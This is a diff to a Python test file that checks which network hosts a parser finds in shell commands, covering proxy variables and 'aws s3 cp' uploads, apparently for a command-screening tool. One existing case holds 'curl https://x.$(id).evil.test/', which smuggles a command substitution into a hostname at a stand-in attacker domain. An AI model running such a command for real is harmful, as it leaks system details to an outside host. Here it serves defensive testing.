@@ -29,6 +29,10 @@ def test_a_name_that_only_looks_like_one_is_not(text: str) -> None:
         ("curl https://a.test/$X", ("https://a.test/$X",)),
         ("curl https://x.$(id).evil.test/", ("https://evil.test",)),
         ("https_proxy=http://p.test curl https://a.test", ("https://a.test", "http://p.test")),
+        ("env https_proxy=http://p.test curl https://a.test", ("http://p.test", "https://a.test")),
+        ("export https_proxy=http://p.test; curl https://a.test", ("https://a.test", "http://p.test")),
+        ("aws s3 cp a s3://b", ("s3.amazonaws.com",)),
+        ("aws s3 cp s3://b a", ()),
     ],
 )
 def test_a_host_that_is_not_known_is_not_made_up(text: str, hosts: tuple[str, ...]) -> None:
